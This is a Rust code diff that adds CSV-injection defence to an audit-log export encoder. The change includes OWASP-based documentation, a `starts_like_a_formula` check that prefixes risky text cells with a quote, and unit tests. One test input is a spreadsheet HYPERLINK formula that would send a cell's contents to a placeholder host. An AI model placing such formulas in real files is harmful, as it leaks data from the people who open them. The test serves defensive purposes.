@@ -8,6 +8,31 @@
 //! Encoding and compression are CPU work: run the stream on a runtime that
 //! does not serve HTTP requests (Nox runs it on the server's main runtime,
 //! not on actix's workers).
+//!
+//! # CSV injection
+//!
+//! A CSV file is opened in spreadsheets, which run a cell that begins with
+//! `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a
+//! formula; audit rows hold text chosen by whoever sent the request (a
+//! `User-Agent`, a file path, a command). Following OWASP's advice on CSV
+//! injection, the CSV encoder puts a `'` before every cell of a text column
+//! (`text`, `varchar`, `char`, `name`) whose value begins with one of those
+//! six characters, so the spreadsheet shows it as text. Only text columns
+//! are touched:
+//!
+//! - numbers (integer and floating point) are written as they are: a `-`
+//!   there is a sign, a spreadsheet reads `-1` as the number −1, and a
+//!   prefix would turn a number column into text;
+//! - JSON columns are written as compact JSON, which begins with `{`, `[`,
+//!   `"`, a digit, `-` (a number again) or `true`/`false`/`null`, never
+//!   with a formula (a JSON string such as `"=1+1"` keeps its quotes);
+//! - UUIDs, timestamps, addresses, booleans and hex never begin with one of
+//!   the six characters.
+//!
+//! So a CSV export is meant for people and spreadsheets: a text value that
+//! begins with one of the six characters (or with `'` itself) cannot be
+//! told apart from one that was prefixed. JSON and NDJSON exports, and the
+//! JSON of the log pages, are exact: they are never prefixed.
 
 use std::fmt::Write as _;
 use std::io::{self, Write as _};
@@ -202,7 +227,8 @@ impl Serialize for Cell<'_> {
 
 impl Cell<'_> {
     /// The CSV text of the value: NULL is empty, booleans `true`/`false`,
-    /// timestamps RFC 3339 UTC, JSON compact.
+    /// timestamps RFC 3339 UTC, JSON compact, text that begins like a
+    /// formula after a `'` (see the crate's documentation on CSV injection).
     fn write_csv(&self, out: &mut Vec<u8>) -> io::Result<()> {
         out.clear();
         match self {
@@ -210,7 +236,12 @@ impl Cell<'_> {
             Cell::Bool(v) => out.extend_from_slice(if *v { b"true" } else { b"false" }),
             Cell::Int(v) => write!(out, "{v}")?,
             Cell::Float(v) => write!(out, "{v}")?,
-            Cell::Text(v) => out.extend_from_slice(v.as_bytes()),
+            Cell::Text(v) => {
+                if starts_like_a_formula(v) {
+                    out.push(b'\'');
+                }
+                out.extend_from_slice(v.as_bytes());
+            }
             // The three below write straight into `out`: no String per cell
             // (the profile of the export showed allocation as a main cost).
             Cell::Uuid(v) => out.extend_from_slice(
@@ -236,6 +267,16 @@ impl Cell<'_> {
         }
         Ok(())
     }
+}
+
+/// Whether a spreadsheet could take a text cell for a formula: it begins
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP's list; see
+/// the crate's documentation on CSV injection).
+pub fn starts_like_a_formula(text: &str) -> bool {
+    matches!(
+        text.as_bytes().first(),
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
+    )
 }
 
 /// A row as a JSON object, every column under its name.
@@ -504,6 +545,46 @@ mod tests {
         for (value, text) in cases {
             value.write_csv(&mut out).unwrap();
             assert_eq!(String::from_utf8_lossy(&out), text, "{value:?}");
+        }
+    }
+
+    #[test]
+    fn csv_text_that_begins_like_a_formula_is_neutralised() {
+        let mut out = Vec::new();
+        let cases: Vec<(Cell, &str)> = vec![
+            (
+                Cell::Text("=HYPERLINK(\"http://x\"&A2)"),
+                "'=HYPERLINK(\"http://x\"&A2)",
+            ),
+            (Cell::Text("+1"), "'+1"),
+            (Cell::Text("-1"), "'-1"),
+            (Cell::Text("@SUM(A1)"), "'@SUM(A1)"),
+            (Cell::Text("\t=1+1"), "'\t=1+1"),
+            (Cell::Text("\r=1+1"), "'\r=1+1"),
+            // Not at the start, or not one of the six: untouched.
+            (Cell::Text("curl/8.0 =1"), "curl/8.0 =1"),
+            (Cell::Text(" =1"), " =1"),
+            (Cell::Text("'=1"), "'=1"),
+            (Cell::Text(""), ""),
+            (Cell::Text("/files"), "/files"),
+            // Numbers keep their sign; JSON stays JSON.
+            (Cell::Int(-1), "-1"),
+            (Cell::Float(-0.5), "-0.5"),
+            (Cell::Json(serde_json::json!(-3)), "-3"),
+            (Cell::Json(serde_json::json!("=1+1")), "\"=1+1\""),
+            (Cell::Json(serde_json::json!({"a": "=1"})), r#"{"a":"=1"}"#),
+        ];
+        for (value, text) in cases {
+            value.write_csv(&mut out).unwrap();
+            assert_eq!(String::from_utf8_lossy(&out), text, "{value:?}");
+        }
+    }
+
+    #[test]
+    fn json_cells_are_never_prefixed() {
+        for text in ["=1", "+1", "-1", "@a", "\t1", "\r1"] {
+            let json = serde_json::to_string(&Cell::Text(text)).unwrap();
+            assert_eq!(serde_json::from_str::<String>(&json).unwrap(), text);
         }
     }
 
